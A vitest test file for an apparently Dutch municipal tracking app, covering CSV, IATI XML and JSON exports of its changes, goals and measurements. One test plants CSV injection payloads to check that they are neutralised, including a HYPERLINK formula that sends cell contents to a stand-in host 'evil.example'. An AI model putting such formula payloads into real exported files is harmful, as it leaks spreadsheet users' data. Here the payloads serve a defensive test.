import { xml2js, type Element } from 'xml-js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addMilestone, setChangePublished } from '../changes';
import { aChange } from '../changes/change.factory';
import { recordMeasurement } from '../goals';
import { aGoal } from '../goals/goal.factory';
import { commitMeasurementImport } from '../imports';
import { anOrganization, testActor, testDeps } from '../organizations/organization.factory';
import { exportOrganization } from '../transfer';
import type { Deps } from '../../storage';
import { DIALECTS, openTestDatabase } from '../../storage/testing';
import { iatiRuleFailures } from './iati-rules.testing';
import { exportOrganizationAs, measurementsCsv } from './index';

const children = (e: Element | undefined, name: string): Element[] => (e?.elements ?? []).filter((c) => c.type === 'element' && c.name === name);
const child = (e: Element | undefined, name: string): Element | undefined => children(e, name)[0];
const names = (e: Element | undefined): string[] => (e?.elements ?? []).filter((c) => c.type === 'element').map((c) => c.name!);
const text = (e: Element | undefined): string => child(e, 'narrative')?.elements?.[0]?.text as string;

for (const dialect of DIALECTS) {
  describe(`exports on ${dialect}`, () => {
    let deps: Deps;
    let close: () => Promise<void>;
    beforeAll(async () => {
      const open = await openTestDatabase(dialect);
      deps = testDeps(open.db);
      close = open.close;
    });
    afterAll(() => close());

    const fixture = async () => {
      const organization = await anOrganization(deps, { name: 'Gemeente "Ëlst" & Co' });
      const change = await aChange(deps, organization.id, { title: 'Fietsstalling <station>', summary: 'Een stalling bij het station.' });
      await addMilestone(deps, testActor, change.id, { title: 'Start', date: '2026-01-15' });
      await addMilestone(deps, testActor, change.id, { title: 'Klaar', date: '2027-06-30' });
      const up = await aGoal(deps, change.id);
      const down = await aGoal(deps, change.id, { statement: 'Minder fietsen op de stoep', level: 'impact', unit: 'fietsen', indicator: 'Fietsen op de stoep', direction: 'decrease', baselineValue: 300, targetValue: 50 });
      await recordMeasurement(deps, testActor, up.id, { date: '2026-03-31', value: 52.5, source: 'Telling Q1; "voorlopig"' });
      await recordMeasurement(deps, testActor, up.id, { date: '2026-04-30', value: 1234.75, source: '' });
      await setChangePublished(deps, testActor, change.id, true);
      const draft = await aChange(deps, organization.id, { title: 'Geheim plan' });
      await aGoal(deps, draft.id, { statement: 'Een doel in een concept' });
      return { organization, change, up, down, draft };
    };

    it('writes CSV for Dutch Excel: BOM, semicolons, decimal comma, CRLF, quoting; the rows import back unchanged', async () => {
      const { organization, change, up, down } = await fixture();
      const file = await exportOrganizationAs(deps, organization.slug, 'csv');
      expect(file).toMatchObject({ contentType: 'text/csv; charset=utf-8', filename: `${organization.slug}-metingen.csv` });
      expect(file.body.startsWith('\uFEFFdoel;verandering;doelnummer;doel_id;stelling;')).toBe(true);
      const lines = file.body.slice(1).split('\r\n');
      expect(lines[1]).toBe(`${change.slug}/1;Fietsstalling <station>;1;${up.id};Meer fietsen staan in de stalling in plaats van op de stoep;outcome;Aandeel geparkeerde fietsen in de stalling bij de telling;procent;increase;40;2025-01-01;70;2028-01-01;2026-03-31;52,5;"Telling Q1; ""voorlopig""";`);
      expect(lines[2]).toContain(';2026-04-30;1234,75;;');
      expect(lines[3]).toBe(`${change.slug}/2;Fietsstalling <station>;2;${down.id};Minder fietsen op de stoep;impact;Fietsen op de stoep;fietsen;decrease;300;2025-01-01;50;2028-01-01;;;;`);
      expect(file.body).toContain('Een doel in een concept');
      // The measurement rows read back in as they went out: nothing to change.
      const measurementRows = [lines[0], lines[1], lines[2]].join('\r\n');
      const result = await commitMeasurementImport(deps, testActor, organization.id, `\uFEFF${measurementRows}\r\n`);
      expect(result.preview.counts).toEqual({ new: 0, replace: 0, unchanged: 2, invalid: 0 });
      expect(measurementsCsv(await exportOrganization(deps, organization.id))).toBe(file.body);
    });

    it('neutralizes formulas in text cells (CSV injection), keeps negative numbers numbers, and reads them back as typed', async () => {
      const organization = await anOrganization(deps);
      const change = await aChange(deps, organization.id, { title: '=HYPERLINK("http://evil.example/?x="&A1,"klik")' });
      const goal = await aGoal(deps, change.id, { statement: '@SUM(1+1) fietsen in de stalling', unit: '+procent', direction: 'increase', baselineValue: -10, targetValue: 5 });
      await recordMeasurement(deps, testActor, goal.id, { date: '2026-03-31', value: -5, source: '-1+1', note: '=1+1' });
      const file = await exportOrganizationAs(deps, organization.slug, 'csv');
      const [, row] = file.body.slice(1).split('\r\n');
      expect(row).toBe(`${change.slug}/1;"'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")";1;${goal.id};'@SUM(1+1) fietsen in de stalling;outcome;Aandeel geparkeerde fietsen in de stalling bij de telling;'+procent;increase;-10;2025-01-01;5;2028-01-01;2026-03-31;-5;'-1+1;'=1+1`);
      const result = await commitMeasurementImport(deps, testActor, organization.id, file.body);
      expect(result.preview.counts).toEqual({ new: 0, replace: 0, unchanged: 1, invalid: 0 });
    });

    it('writes IATI 2.03 results of published changes, in schema order, escaped', async () => {
      const { organization, change, up, down } = await fixture();
      const file = await exportOrganizationAs(deps, organization.id, 'iati');
      expect(file.contentType).toBe('application/xml; charset=utf-8');
      expect(file.body.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n<iati-activities version="2.03"')).toBe(true);
      const root = child(xml2js(file.body) as Element, 'iati-activities')!;
      const activities = children(root, 'iati-activity');
      expect(activities).toHaveLength(1);
      const activity = activities[0]!;
      expect(names(activity)).toEqual(['iati-identifier', 'reporting-org', 'title', 'description', ...(change.why ? ['description'] : []), 'participating-org', 'activity-status', 'activity-date', 'activity-date', 'recipient-country', 'sector', 'sector', 'result', 'result']);
      expect(child(activity, 'iati-identifier')!.elements![0]!.text).toBe(`XI-HELDER-${organization.slug}-${change.id}`);
      expect(text(child(activity, 'title'))).toBe('Fietsstalling <station>');
      expect(text(child(activity, 'reporting-org'))).toBe('Gemeente "Ëlst" & Co');
      expect(children(activity, 'activity-date').map((d) => d.attributes)).toEqual([{ type: '1', 'iso-date': '2026-01-15' }, { type: '3', 'iso-date': '2027-06-30' }]);
      const [first, second] = children(activity, 'result');
      expect(first!.attributes).toEqual({ type: '2', 'aggregation-status': '0' });
      expect(names(first)).toEqual(['title', 'indicator']);
      const indicator = child(first, 'indicator')!;
      expect(indicator.attributes).toEqual({ measure: '2', ascending: '1' });
      expect(names(indicator)).toEqual(['title', 'baseline', 'period']);
      expect(child(indicator, 'baseline')!.attributes).toEqual({ year: '2025', 'iso-date': '2025-01-01', value: '40' });
      const period = child(indicator, 'period')!;
      expect(names(period)).toEqual(['period-start', 'period-end', 'target', 'actual']);
      expect(child(period, 'period-start')!.attributes).toEqual({ 'iso-date': '2025-01-01' });
      expect(child(period, 'period-end')!.attributes).toEqual({ 'iso-date': '2028-01-01' });
      expect(child(period, 'target')!.attributes).toEqual({ value: '70' });
      expect(child(period, 'actual')!.attributes).toEqual({ value: '1234.75' });
      expect(text(child(child(period, 'actual'), 'comment'))).toBe('Gemeten op 2026-04-30');
      expect(second!.attributes!.type).toBe('3');
      expect(child(second, 'indicator')!.attributes).toEqual({ measure: '1', ascending: '0' });
      expect(names(child(child(second, 'indicator'), 'period'))).toEqual(['period-start', 'period-end', 'target']);
      expect(file.body).not.toContain('Geheim plan');
      expect([up.id, down.id].every((id) => !file.body.includes(id))).toBe(true);
    });

    it('passes the IATI Standard ruleset, errors and warnings: a sector from the themes (6.2.2), the Netherlands as recipient country (3.7.1)', async () => {
      const { organization, change } = await fixture();
      const themed = await aChange(deps, organization.id, { title: 'Betaald parkeren', themes: ['Verkeer', 'parkeren', 'wonen', 'iets eigens'] });
      await aGoal(deps, themed.id);
      await setChangePublished(deps, testActor, themed.id, true);
      const unthemed = await aChange(deps, organization.id, { title: 'Zonder thema', themes: [] });
      await setChangePublished(deps, testActor, unthemed.id, true);
      const file = await exportOrganizationAs(deps, organization.id, 'iati');
      expect(iatiRuleFailures(file.body, '2026-12-31')).toEqual([]);

      const activities = children(child(xml2js(file.body) as Element, 'iati-activities'), 'iati-activity');
      const byTitle = (title: string) => activities.find((a) => text(child(a, 'title')) === title)!;
      const sectors = (a: Element) => children(a, 'sector').map((s) => ({ ...s.attributes, ...(child(s, 'narrative') ? { narrative: text(s) } : {}) }));
      // The fixture's change has the factory's theme "verkeer": transport policy, and the theme itself in vocabulary 99.
      expect(change.themes).toEqual(['verkeer']);
      expect(sectors(byTitle('Fietsstalling <station>'))).toEqual([
        { vocabulary: '1', code: '21010', percentage: '100' },
        { vocabulary: '99', code: 'verkeer', percentage: '100', narrative: 'verkeer' },
      ]);
      // Four themes, three DAC codes (an unknown theme falls back to 15110): shares add up to exactly 100 per vocabulary.
      expect(sectors(byTitle('Betaald parkeren'))).toEqual([
        { vocabulary: '1', code: '21010', percentage: '25' },
        { vocabulary: '1', code: '21020', percentage: '25' },
        { vocabulary: '1', code: '16030', percentage: '25' },
        { vocabulary: '1', code: '15110', percentage: '25' },
        { vocabulary: '99', code: 'verkeer', percentage: '25', narrative: 'Verkeer' },
        { vocabulary: '99', code: 'parkeren', percentage: '25', narrative: 'parkeren' },
        { vocabulary: '99', code: 'wonen', percentage: '25', narrative: 'wonen' },
        { vocabulary: '99', code: 'iets-eigens', percentage: '25', narrative: 'iets eigens' },
      ]);
      expect(sectors(byTitle('Zonder thema'))).toEqual([{ vocabulary: '1', code: '15110', percentage: '100' }]);
      for (const a of activities) expect(children(a, 'recipient-country').map((c) => c.attributes)).toEqual([{ code: 'NL', percentage: '100' }]);
      // Schema order: recipient-country and sector sit between activity-date and result.
      expect(names(byTitle('Fietsstalling <station>')).slice(-6)).toEqual(['activity-date', 'recipient-country', 'sector', 'sector', 'result', 'result']);
    });

    it('finds what the IATI ruleset finds: a document without sector or country fails 6.2.2 and 3.7.1', () => {
      const bare = '<?xml version="1.0"?><iati-activities version="2.03"><iati-activity last-updated-datetime="2026-01-01T00:00:00Z" xml:lang="nl" default-currency="EUR"><iati-identifier>XI-X-1</iati-identifier><reporting-org ref="XI-X" type="10"><narrative>X</narrative></reporting-org><title><narrative>T</narrative></title><activity-status code="2"/><activity-date type="1" iso-date="2026-01-01"/></iati-activity></iati-activities>';
      expect(iatiRuleFailures(bare, '2026-12-31').map((f) => f.id).sort()).toEqual(['3.7.1', '6.2.2']);
    });

    it('writes the JSON document that round-trips, and refuses unknown organizations', async () => {
      const { organization } = await fixture();
      const file = await exportOrganizationAs(deps, organization.slug, 'json');
      expect(JSON.parse(file.body)).toEqual(await exportOrganization(deps, organization.id));
      await expect(exportOrganizationAs(deps, 'nergens', 'csv')).rejects.toMatchObject({ code: 'not_found' });
    });
  });
}
